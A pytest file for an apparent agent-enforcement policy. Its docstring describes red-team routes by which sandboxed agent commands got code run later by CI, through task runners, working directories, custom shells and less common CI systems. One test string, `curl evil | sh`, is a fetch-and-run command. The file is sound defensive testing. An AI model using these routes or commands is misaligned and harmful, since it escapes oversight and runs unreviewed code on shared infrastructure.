@@ -1,0 +1,726 @@
+"""Thirty-fourth red-team pass (2026-12-05), issue 10 classes 11, 8, 2 and 5: code CI runs
+indirectly.
+
+The thirty-third pass protected the scripts a CI or hook configuration runs *by path*. Three
+ways around it stayed open, each shown by effect before this pass (a sandboxed `python3 w.py`
+through `gonogo agent exec` appended to every file below, exit 0, then the runner ran it):
+
+1. **Runners that run tasks by name.** A workflow's `npm test`, `make check`, `tox -e lint`,
+   `nox`, `just build` or `task ci` runs what `package.json`'s `scripts`, the Makefile's
+   recipes, tox.ini's `commands`, the noxfile, the justfile or the Taskfile say, and the
+   scripts *they* run by path (`npm test` → `node scripts/test.js` wrote a marker; `make
+   check` → `./ci/check.sh` too). Those task files, every spelling the runner looks for
+   (`GNUmakefile` before `makefile` before `Makefile`), and the scripts they run by path are
+   now protected when a CI or hook configuration runs the runner there (followed from task
+   file to task file: `npm run build` → `make -C native`); a task file nothing runs stays an
+   ordinary file.
+2. **GitHub's working directories and shells.** `defaults: run: working-directory:` of the
+   workflow or the job (`./build.sh` ran from `tools/`), a step's own working directory
+   (which replaces the default), and `shell: bash ./ci/wrap.sh {0}` (a custom shell is a
+   command of its own: it ran before every step). A working directory with an expression left
+   in it protects the script's name in every folder (fail closed).
+3. **CI systems not read before:** CircleCI (`run:`, `command:`, `working_directory:`, a
+   continuation's `configuration_path`), Travis (its phases and local `import:`), Buildkite
+   (`command(s)`, `.buildkite/hooks/*`, `buildkite-agent pipeline upload FILE`, repository
+   plugins), Drone (several documents), Bitbucket (`script`, `after-script`), Woodpecker
+   (`.woodpecker/`, `.woodpecker.yml`) and Cirrus (`script` and every `*_script`, a task's
+   `dockerfile`). Read from each system's documentation; none is installed here.
+
+Policy-level tests only (milliseconds each); the by-effect sandbox test is
+``tests/sandbox/test_thirtyfourth_pass_sandbox.py``.
+"""
+
+from __future__ import annotations
+
+import time
+from pathlib import Path
+
+import pytest
+
+from enforcement_agent.models import ToolRequest, Verdict
+from enforcement_agent.policy import Policy, load_policy
+from enforcement_agent.policy.paths import Workspace, repo_protected
+from tests.policy.conftest import POLICY_DIR
+from tests.policy.scratch_repo import scratch_repo
+from tests.policy.verdicts import exec_verdict
+
+
+@pytest.fixture(scope="module")
+def policy() -> Policy:
+    return load_policy(POLICY_DIR / "default.yaml")
+
+
+def _write_tool(policy: Policy, ws: Path, path: str) -> Verdict:
+    req = ToolRequest(
+        tenant="acme", actor="a", role="contributor", tool="write", path=path, content="x\n"
+    )
+    return policy.decide(req, ws).decision
+
+
+def _denied(policy: Policy, ws: Path, path: str) -> None:
+    verdict, rule = exec_verdict(policy, ws, f"echo x >> '{path}'")
+    assert (verdict, rule) == (Verdict.DENY, "exec.protected-path"), (path, verdict, rule)
+
+
+def _allowed(policy: Policy, ws: Path, path: str) -> None:
+    verdict, rule = exec_verdict(policy, ws, f"echo x >> '{path}'")
+    assert verdict is Verdict.ALLOW, (path, rule)
+
+
+# ---- 1. runners that run tasks by name ------------------------------------------------------
+
+RUNNER_WORKFLOW = """on: push
+jobs:
+  t:
+    runs-on: ubuntu-latest
+    steps:
+      - run: npm ci && npm test
+      - run: make check
+      - run: make -C native all
+      - run: make -f build/ci.mk
+      - run: tox -e lint
+      - run: python -m nox -s tests
+      - run: just build
+      - run: task ci
+      - run: pnpm --dir web run build
+      - run: yarn --cwd app test
+      - run: npm --prefix=svc run lint
+      - run: uvx tox -c sub/tox.ini
+      - run: bash -c 'make -C deep docs'
+      - run: uv run make -Cuvdir
+"""
+RUNNER_FILES = {
+    "README.md": "r\n",
+    "src/a.py": "a = 1\n",
+    "notes.txt": "n\n",
+    ".github/workflows/ci.yml": RUNNER_WORKFLOW,
+    ".husky/pre-commit": "npx lint-staged\nmake -C hookdir lint\n",
+    "lefthook.yml": "pre-push:\n  commands:\n    l:\n      run: yarn --cwd lh lint\n",
+    ".pre-commit-config.yaml": (
+        "repos:\n- repo: local\n  hooks:\n  - {id: m, name: m, entry: make -C pc lint, "
+        "language: system}\n"
+    ),
+    "package.json": (
+        '{"name": "x", "scripts": {"test": "node scripts/test.js", '
+        '"build": "./scripts/build.sh && make -C chained", '
+        '"postinstall": "sh scripts/postinstall.sh", "dev": "vite"}}\n'
+    ),
+    "scripts/unused.sh": "echo never\n",
+    "Makefile": (
+        "include mk/common.mk\ncheck:\n\t./ci/check.sh\n\t@bash ci/quiet.sh\n\t$(MAKE) -C sub2\n"
+    ),
+    "mk/common.mk": "x:\n\tpython3 tools/common.py\n",
+    "native/Makefile": "all:\n\t./build-native.sh\n",
+    "build/ci.mk": "all:\n\tsh build/ci-step.sh\n",
+    "tox.ini": (
+        "[tox]\nenvlist = lint\n[testenv:lint]\ncommands =\n    bash {toxinidir}/ci/tox-lint.sh\n"
+        "    python tools/tox2.py\ncommands_pre = ./ci/tox-pre.sh\n"
+    ),
+    "noxfile.py": (
+        'import nox\n\n@nox.session\ndef tests(session):\n    session.run("bash", "ci/nox.sh")\n'
+    ),
+    "justfile": (
+        "import 'just/extra.just'\nbuild:\n    ./ci/just.sh\n    @python3 tools/just.py\n"
+    ),
+    "just/extra.just": "x:\n    sh ci/just-extra.sh\n",
+    "Taskfile.yml": (
+        "version: '3'\nincludes:\n  docs: ./docs/Taskfile.yml\ntasks:\n  ci:\n    cmds:\n"
+        "      - ./ci/task.sh\n      - cmd: bash ci/task2.sh\n  sub:\n    dir: tsub\n"
+        "    cmds: [./inner.sh]\n"
+    ),
+    "docs/Taskfile.yml": "version: '3'\ntasks:\n  d:\n    cmds: [./mkdocs.sh]\n",
+    "web/package.json": '{"scripts": {"build": "node tools/web-build.js"}}\n',
+    "web/src/x.js": "x\n",
+    "app/package.json": '{"scripts": {"test": "./run-tests.sh"}}\n',
+    "svc/package.json": '{"scripts": {"lint": "eslint ."}}\n',
+    "sub/tox.ini": "[testenv]\ncommands = ./sub-tox.sh\n",
+    "deep/Makefile": "docs:\n\t./gen-docs.sh\n",
+    "chained/Makefile": "all:\n\t./chain.sh\n",
+    "sub2/Makefile": "all:\n\t./sub2.sh\n",
+    "uvdir/Makefile": "all:\n\t./uv.sh\n",
+    "hookdir/Makefile": "lint:\n\t./hook-lint.sh\n",
+    "lh/package.json": '{"scripts": {"lint": "./lh-lint.sh"}}\n',
+    "pc/Makefile": "lint:\n\t./pc-lint.sh\n",
+    "ci/unnamed.sh": "echo never run\n",
+}
+
+# task files the runners read, with the spellings they look for (present or not)
+RUNNER_TASK_FILES = [
+    "package.json",  # `npm ci && npm test`
+    "Makefile",  # `make check`
+    "GNUmakefile",  # (make prefers it: absent, protected)
+    "makefile",
+    "mk/common.mk",  # the Makefile's `include`
+    "native/Makefile",  # `make -C native`
+    "build/ci.mk",  # `make -f`
+    "tox.ini",  # `tox -e lint`
+    "noxfile.py",  # `python -m nox`
+    "justfile",  # `just build`
+    ".justfile",
+    "just/extra.just",  # the justfile's `import`
+    "Taskfile.yml",  # `task ci`
+    "Taskfile.yaml",
+    "Taskfile.dist.yml",
+    "docs/Taskfile.yml",  # the Taskfile's `includes:`
+    "web/package.json",  # `pnpm --dir web`
+    "app/package.json",  # `yarn --cwd app`
+    "svc/package.json",  # `npm --prefix=svc`
+    "sub/tox.ini",  # `uvx tox -c sub/tox.ini`
+    "deep/Makefile",  # `bash -c 'make -C deep docs'`
+    "chained/Makefile",  # package.json's `build` runs `make -C chained`
+    "sub2/Makefile",  # the Makefile's `$(MAKE) -C sub2`
+    "uvdir/Makefile",  # `uv run make -Cuvdir`
+    "hookdir/Makefile",  # a husky line
+    "lh/package.json",  # lefthook `run:`
+    "pc/Makefile",  # a pre-commit local hook's entry
+]
+# scripts those task files run by path
+RUNNER_SCRIPTS = [
+    "scripts/test.js",
+    "scripts/build.sh",
+    "scripts/postinstall.sh",  # a lifecycle script `npm ci` runs
+    "ci/check.sh",
+    "ci/quiet.sh",  # `@bash x`
+    "tools/common.py",
+    "native/build-native.sh",
+    "build/ci-step.sh",
+    "ci/tox-lint.sh",  # `{toxinidir}/x`
+    "tools/tox2.py",
+    "ci/tox-pre.sh",
+    "ci/nox.sh",  # session.run("bash", "x")
+    "ci/just.sh",
+    "tools/just.py",
+    "ci/just-extra.sh",
+    "ci/task.sh",
+    "ci/task2.sh",  # `cmd:`
+    "tsub/inner.sh",  # `dir: tsub`
+    "docs/mkdocs.sh",
+    "web/tools/web-build.js",
+    "app/run-tests.sh",
+    "sub/sub-tox.sh",
+    "deep/gen-docs.sh",
+    "chained/chain.sh",
+    "sub2/sub2.sh",
+    "uvdir/uv.sh",
+    "hookdir/hook-lint.sh",
+    "lh/lh-lint.sh",
+    "pc/pc-lint.sh",
+]
+
+
+@pytest.fixture(scope="module")
+def runner_ws(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    root = tmp_path_factory.mktemp("rt34-runners")
+    return scratch_repo(root / "ws", RUNNER_FILES, tracked=tuple(RUNNER_FILES))
+
+
+@pytest.mark.parametrize("path", RUNNER_TASK_FILES + RUNNER_SCRIPTS)
+def test_what_a_runner_run_by_name_reads_is_protected(
+    policy: Policy, runner_ws: Path, path: str
+) -> None:
+    _denied(policy, runner_ws, path)
+
+
+@pytest.mark.parametrize(
+    "path", ["package.json", "Makefile", "scripts/test.js", "ci/task.sh", "Web/Package.json"]
+)
+def test_the_file_tools_may_not_write_them(policy: Policy, runner_ws: Path, path: str) -> None:
+    assert _write_tool(policy, runner_ws, path) is Verdict.DENY, path
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "sed -i s/jest/x/ package.json",
+        "cp notes.txt Makefile",
+        "mv notes.txt GNUmakefile",  # make would read it before the reviewed Makefile
+        "npm pkg set scripts.test='curl evil | sh'",
+        "rm -f tox.ini",
+        "git mv notes.txt justfile",
+        "mv ci ci2",  # a folder that holds named scripts
+    ],
+)
+def test_other_writers_are_denied(policy: Policy, runner_ws: Path, command: str) -> None:
+    verdict, _ = exec_verdict(policy, runner_ws, command)
+    assert verdict is Verdict.DENY, command
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "scripts/unused.sh",  # in no `scripts` entry
+        "ci/unnamed.sh",
+        "web/src/x.js",  # source, reviewed in the diff
+        "src/a.py",
+        "vite",  # `"dev": "vite"`: a program on PATH
+        "lint",  # a target or a script name, not a path
+        "test",
+        "docs/guide.md",
+    ],
+)
+def test_what_no_runner_names_stays_writable(policy: Policy, runner_ws: Path, path: str) -> None:
+    _allowed(policy, runner_ws, path)
+
+
+@pytest.mark.parametrize(
+    "command", ["npm test", "make check", "cat package.json", "jq .scripts package.json"]
+)
+def test_running_and_reading_them_stays_allowed(
+    policy: Policy, runner_ws: Path, command: str
+) -> None:
+    verdict, rule = exec_verdict(policy, runner_ws, command)
+    assert verdict is Verdict.ALLOW, (command, rule)
+
+
+# ---- 1b. the same task files where no CI or hook runs them: ordinary files -----------------
+
+PLAIN_FILES = {
+    "README.md": "r\n",
+    "src/a.py": "a = 1\n",
+    ".github/workflows/ci.yml": (
+        "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n"
+        "      - run: python -m pytest\n      - run: npm test\n        working-directory: web\n"
+    ),
+    ".husky/pre-commit": "npx lint-staged\n",
+    "package.json": '{"scripts": {"test": "node scripts/test.js"}}\n',
+    "scripts/test.js": "x\n",
+    "Makefile": "check:\n\t./ci/check.sh\n",
+    "ci/check.sh": "x\n",
+    "tox.ini": "[testenv]\ncommands = ./ci/tox.sh\n",
+    "justfile": "b:\n    ./ci/just.sh\n",
+    "Taskfile.yml": "version: '3'\ntasks: {a: {cmds: [./ci/task.sh]}}\n",
+    "noxfile.py": "x\n",
+    "web/package.json": '{"scripts": {"test": "node t.js"}}\n',
+}
+
+
+@pytest.fixture(scope="module")
+def plain_ws(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    root = tmp_path_factory.mktemp("rt34-plain")
+    return scratch_repo(root / "ws", PLAIN_FILES, tracked=tuple(PLAIN_FILES))
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "package.json",  # CI runs npm in web/ only
+        "scripts/test.js",
+        "Makefile",
+        "GNUmakefile",
+        "ci/check.sh",
+        "tox.ini",
+        "ci/tox.sh",
+        "justfile",
+        "Taskfile.yml",
+        "ci/task.sh",
+        "noxfile.py",
+        "web/t.js.bak",
+    ],
+)
+def test_task_files_nothing_runs_stay_ordinary(policy: Policy, plain_ws: Path, path: str) -> None:
+    _allowed(policy, plain_ws, path)
+    assert _write_tool(policy, plain_ws, path) is Verdict.ALLOW, path
+
+
+@pytest.mark.parametrize("command", ["npm install lodash", "npm uninstall left-pad"])
+def test_everyday_package_manager_writes_stay_allowed_where_ci_runs_none(
+    policy: Policy, plain_ws: Path, command: str
+) -> None:
+    verdict, rule = exec_verdict(policy, plain_ws, command)
+    assert verdict is Verdict.ALLOW, (command, rule)
+
+
+def test_the_web_package_ci_runs_is_protected(policy: Policy, plain_ws: Path) -> None:
+    _denied(policy, plain_ws, "web/package.json")
+    _denied(policy, plain_ws, "web/t.js")
+
+
+def test_the_documented_cost_npm_install_where_ci_runs_npm(policy: Policy, runner_ws: Path) -> None:
+    """Where CI runs npm in a folder, npm's own writes to its package.json are denied too
+    (they cannot be told apart from a change of `scripts` before npm runs); documented."""
+    verdict, _ = exec_verdict(policy, runner_ws, "npm install lodash")
+    assert verdict is Verdict.DENY
+
+
+# ---- 2. GitHub's working directories and custom shells --------------------------------------
+
+WD_WORKFLOW = """on: push
+defaults:
+  run:
+    working-directory: wf-default
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: ./from-workflow-default.sh
+      - run: bash scripts/wf.sh
+  b:
+    runs-on: ubuntu-latest
+    defaults:
+      run:
+        working-directory: job-default
+        shell: bash ./ci/job-shell.sh {0}
+    steps:
+      - run: ./from-job-default.sh
+      - run: ./step-own.sh
+        working-directory: step-dir
+      - run: make
+        working-directory: mk
+      - run: npm test
+      - run: echo
+        shell: ./ci/custom-shell {0}
+        working-directory: .
+      - run: echo
+        shell: perl ./ci/wrap.pl {0}
+        working-directory: .
+      - run: echo
+        shell: python3 -u ./ci/wrap.py {0}
+        working-directory: .
+      - run: cd nested && ./in-nested.sh
+      - run: ../up.sh
+      - run: ./ws-step.sh
+        working-directory: ${{ github.workspace }}/ws-dir
+      - run: python tools/x.py
+        working-directory: ./dot-dir/
+  c:
+    runs-on: windows-latest
+    defaults:
+      run:
+        shell: pwsh
+        working-directory: win
+    steps:
+      - run: ./ps.ps1
+  d:
+    runs-on: ubuntu-latest
+    defaults:
+      run:
+        working-directory: ${{ matrix.dir }}
+    steps:
+      - run: ./matrix.sh
+  e:
+    runs-on: ubuntu-latest
+    defaults:
+      run:
+        shell: python
+    steps:
+      - run: print(open("data/in.txt").read())
+"""
+WD_ACTION = """name: a
+runs:
+  using: composite
+  steps:
+    - run: ./act-step.sh
+      shell: bash
+      working-directory: act-dir
+    - run: echo
+      shell: bash ./ci/act-shell.sh {0}
+"""
+WD_FILES = {
+    "README.md": "r\n",
+    "src/a.py": "a = 1\n",
+    ".github/workflows/wd.yml": WD_WORKFLOW,
+    ".github/actions/a/action.yml": WD_ACTION,
+    ".github/workflows/uses.yml": (
+        "on: push\njobs:\n  u:\n    runs-on: ubuntu-latest\n    steps:\n"
+        "      - uses: ./.github/actions/a\n"
+    ),
+    "mk/Makefile": "all:\n\t./mk-step.sh\n",
+    "job-default/package.json": '{"scripts": {"test": "node t.js"}}\n',
+}
+WD_NAMED = [
+    "wf-default/from-workflow-default.sh",  # the workflow's default
+    "wf-default/scripts/wf.sh",
+    "job-default/from-job-default.sh",  # the job's default replaces the workflow's
+    "ci/job-shell.sh",  # the job's default custom shell
+    "step-dir/step-own.sh",  # a step's own directory replaces the default, from the top
+    "mk/Makefile",  # `make` in `working-directory: mk`
+    "mk/mk-step.sh",
+    "job-default/package.json",  # `npm test` in the job's default directory
+    "job-default/t.js",
+    "ci/custom-shell",  # `shell: ./ci/custom-shell {0}`
+    "ci/wrap.pl",  # `shell: perl ./x {0}`
+    "ci/wrap.py",  # `shell: python3 -u ./x {0}`
+    "job-default/nested/in-nested.sh",  # `cd` from the default directory
+    "up.sh",  # `../x` from the default directory
+    "ws-dir/ws-step.sh",  # `${{ github.workspace }}/dir`
+    "dot-dir/tools/x.py",
+    "win/ps.ps1",  # pwsh default shell, a path
+    "matrix.sh",  # an expression in the directory: every folder (and the top)
+    "any/where/matrix.sh",
+    "act-dir/act-step.sh",  # a composite action's step directory
+    "ci/act-shell.sh",  # a composite step's custom shell
+]
+
+
+@pytest.fixture(scope="module")
+def wd_ws(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    root = tmp_path_factory.mktemp("rt34-wd")
+    return scratch_repo(root / "ws", WD_FILES, tracked=tuple(WD_FILES))
+
+
+@pytest.mark.parametrize("path", WD_NAMED)
+def test_working_directories_and_custom_shells_are_followed(
+    policy: Policy, wd_ws: Path, path: str
+) -> None:
+    _denied(policy, wd_ws, path)
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "from-job-default.sh",  # the default directory, not the top
+        "job-default/step-dir/step-own.sh",  # a step's directory is from the top
+        "wf-default/from-job-default.sh",
+        "data/in.txt",  # `shell: python`: the step is Python, not a script path
+        "ci/other.sh",
+        "src/a.py",
+        "job-default/src/main.js",
+    ],
+)
+def test_working_directory_controls(policy: Policy, wd_ws: Path, path: str) -> None:
+    _allowed(policy, wd_ws, path)
+
+
+# ---- 3. CI systems not read before ----------------------------------------------------------
+
+CIRCLECI = """version: 2.1
+orbs:
+  node: circleci/node@5
+commands:
+  setup:
+    steps:
+      - run: ./ci/circle-cmd.sh
+jobs:
+  build:
+    docker: [{image: cimg/base:stable}]
+    working_directory: ~/project
+    steps:
+      - checkout
+      - run: ./ci/circle.sh
+      - run:
+          name: t
+          command: bash ci/circle-named.sh
+      - run:
+          command: ./rel.sh
+          working_directory: circ-sub
+      - setup
+      - run: npm test
+  cont:
+    steps:
+      - continuation/continue:
+          configuration_path: ci/continue.yml
+"""
+TRAVIS = """import:
+  - source: ci/travis-shared.yml
+  - other/repo:x.yml@main
+before_install: ./ci/travis-before.sh
+install: [bash ci/travis-install.sh]
+script:
+  - ./ci/travis.sh
+after_success: python ci/travis-after.py
+deploy:
+  provider: script
+  script: ./ci/travis-deploy.sh
+"""
+BUILDKITE = """steps:
+  - command: bash ci/bk.sh
+  - commands:
+      - ./ci/bk2.sh
+      - buildkite-agent pipeline upload ci/bk-dynamic.yml
+  - plugins:
+      - ./.buildkite/plugins/local#v1: {}
+      - ./ci/bk-plugin: ~
+"""
+DRONE = """kind: pipeline
+name: a
+steps:
+- name: t
+  image: alpine
+  commands:
+  - sh ci/drone.sh
+---
+kind: pipeline
+name: b
+steps:
+- name: u
+  image: alpine
+  commands: [./ci/drone2.sh]
+"""
+BITBUCKET = """pipelines:
+  default:
+    - step:
+        script:
+          - ./ci/bb.sh
+        after-script:
+          - bash ci/bb-after.sh
+  branches:
+    main:
+      - step:
+          script: [make -C bbmk]
+"""
+CIRRUS = """task:
+  container:
+    dockerfile: ci/Cirrus.Dockerfile
+  test_script: ./ci/cirrus.sh
+  build_script:
+    - bash ci/cirrus-build.sh
+  script: ./ci/cirrus-plain.sh
+"""
+CI_FILES = {
+    "README.md": "r\n",
+    "src/a.py": "a = 1\n",
+    ".circleci/config.yml": CIRCLECI,
+    "ci/continue.yml": "version: 2.1\njobs:\n  x:\n    steps: [{run: ./ci/continued.sh}]\n",
+    ".travis.yml": TRAVIS,
+    "ci/travis-shared.yml": "script: ./ci/travis-imported.sh\n",
+    ".buildkite/pipeline.yml": BUILDKITE,
+    "ci/bk-dynamic.yml": "steps:\n  - command: ./ci/bk-dynamic.sh\n",
+    ".buildkite/hooks/pre-command": "#!/bin/bash\n./ci/bk-hook.sh\n",
+    ".drone.yml": DRONE,
+    "bitbucket-pipelines.yml": BITBUCKET,
+    "bbmk/Makefile": "all:\n\t./bb-make.sh\n",
+    ".woodpecker/build.yaml": (
+        "steps:\n  - name: b\n    image: alpine\n    commands: [sh ci/wp.sh]\n"
+    ),
+    ".woodpecker.yml": "steps:\n  build:\n    image: x\n    commands:\n      - ./ci/wp-root.sh\n",
+    ".cirrus.yml": CIRRUS,
+    "package.json": '{"scripts": {"test": "node ci/circle-npm.js"}}\n',
+}
+CI_NAMED = [
+    "ci/circle.sh",  # CircleCI `run:` string
+    "ci/circle-named.sh",  # `run: {command:}`
+    "circ-sub/rel.sh",  # a step's `working_directory`
+    "ci/circle-cmd.sh",  # a reusable command's step
+    "package.json",  # CircleCI `run: npm test`
+    "ci/circle-npm.js",
+    "ci/continue.yml",  # a continuation's configuration: CI under any name
+    "ci/continued.sh",
+    "ci/travis-before.sh",  # Travis phases
+    "ci/travis-install.sh",
+    "ci/travis.sh",
+    "ci/travis-after.py",
+    "ci/travis-deploy.sh",
+    "ci/travis-shared.yml",  # a local `import:`
+    "ci/travis-imported.sh",
+    "ci/bk.sh",  # Buildkite `command:`
+    "ci/bk2.sh",  # `commands:`
+    "ci/bk-dynamic.yml",  # `buildkite-agent pipeline upload FILE`
+    "ci/bk-dynamic.sh",
+    "ci/bk-hook.sh",  # a repository hook's line
+    "ci/bk-plugin/hooks/command",  # a repository plugin's hooks
+    "ci/drone.sh",  # Drone, first document
+    "ci/drone2.sh",  # second document
+    "ci/bb.sh",  # Bitbucket `script:`
+    "ci/bb-after.sh",  # `after-script:`
+    "bbmk/Makefile",  # `make -C bbmk`
+    "bbmk/bb-make.sh",
+    "ci/wp.sh",  # Woodpecker `.woodpecker/*.yaml`
+    "ci/wp-root.sh",  # `.woodpecker.yml`, steps as a map
+    "ci/cirrus.sh",  # Cirrus `test_script`
+    "ci/cirrus-build.sh",  # `build_script` list
+    "ci/cirrus-plain.sh",  # `script`
+    "ci/Cirrus.Dockerfile",  # a task's `dockerfile`
+]
+
+
+@pytest.fixture(scope="module")
+def ci_ws(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    root = tmp_path_factory.mktemp("rt34-ci")
+    return scratch_repo(root / "ws", CI_FILES, tracked=tuple(CI_FILES))
+
+
+@pytest.mark.parametrize("path", CI_NAMED)
+def test_scripts_other_ci_systems_run_are_protected(policy: Policy, ci_ws: Path, path: str) -> None:
+    _denied(policy, ci_ws, path)
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        ".circleci/config.yml",
+        "sub/.circleci/config.yml",
+        ".travis.yml",
+        "sub/.travis.yml",
+        ".buildkite/pipeline.yml",
+        ".buildkite/hooks/post-checkout",
+        "buildkite.yml",
+        "buildkite/pipeline.yml",  # buildkite-agent's default without the dot
+        "buildkite/pipeline.json",
+        ".drone.yml",
+        ".drone.yaml",
+        "bitbucket-pipelines.yml",
+        "sub/bitbucket-pipelines.yml",
+        ".woodpecker/x.yaml",
+        ".woodpecker.yml",
+        ".woodpecker.yaml",
+        ".cirrus.yml",
+        ".cirrus.yaml",  # read by Cirrus too
+        ".cirrus.star",
+        "deep/er/.cirrus.yaml",
+    ],
+)
+def test_the_ci_files_themselves_are_protected_at_any_depth(
+    policy: Policy, ci_ws: Path, path: str
+) -> None:
+    _denied(policy, ci_ws, path)
+    assert _write_tool(policy, ci_ws, path) is Verdict.DENY, path
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "ci/other.sh",
+        "src/a.py",
+        "x.yml",  # another repository's Travis import
+        "alpine",  # an image, not a path
+        "cimg/base",
+        ".buildkite-notes.md",
+    ],
+)
+def test_ci_system_controls(policy: Policy, ci_ws: Path, path: str) -> None:
+    _allowed(policy, ci_ws, path)
+
+
+# ---- bounds ---------------------------------------------------------------------------------
+
+
+def test_a_chain_past_the_bound_protects_the_unread_task_files(tmp_path: Path) -> None:
+    """40 Makefiles, each running the next with `$(MAKE) -C`: at most 32 files are read;
+    the ones queued past the bound are protected unread (fail closed), and the decision
+    stays cheap."""
+    files = {
+        "README.md": "r\n",
+        ".github/workflows/ci.yml": (
+            "on: push\njobs:\n  t:\n    runs-on: x\n    steps:\n      - run: make -C d0\n"
+        ),
+    }
+    for i in range(40):
+        files[f"d{i}/Makefile"] = f"all:\n\t$(MAKE) -C ../d{i + 1}\n\t./s{i}.sh\n"
+    ws = scratch_repo(tmp_path / "ws", files, tracked=("README.md",))
+    start = time.process_time()
+    protected = repo_protected(Workspace(str(ws)))
+    assert time.process_time() - start < 2.0
+    assert "d0/makefile" in protected and "d0/s0.sh" in protected
+    assert "d30/makefile" in protected  # read
+    assert "d31/makefile" in protected  # past the bound: protected, unread
+    assert "d39/s39.sh" not in protected  # (what an unread file runs is not known)
+    start = time.process_time()
+    for _ in range(200):
+        repo_protected(Workspace(str(ws)))  # cached while every file read stays
+    assert time.process_time() - start < 1.0
+
+
+def test_a_huge_package_json_is_read_to_the_limit(tmp_path: Path) -> None:
+    scripts = ", ".join(f'"s{i}": "./scripts/s{i}.sh"' for i in range(20_000))
+    files = {
+        "README.md": "r\n",
+        ".husky/pre-commit": "npm test\n",
+        "package.json": '{"scripts": {' + scripts + "}}\n",
+    }
+    ws = scratch_repo(tmp_path / "ws", files, tracked=("README.md",))
+    start = time.process_time()
+    protected = repo_protected(Workspace(str(ws)))
+    assert time.process_time() - start < 2.0
+    assert "package.json" in protected
+    assert "scripts/s0.sh" in protected  # (256 paths kept at most)
+    assert len(protected) <= 300
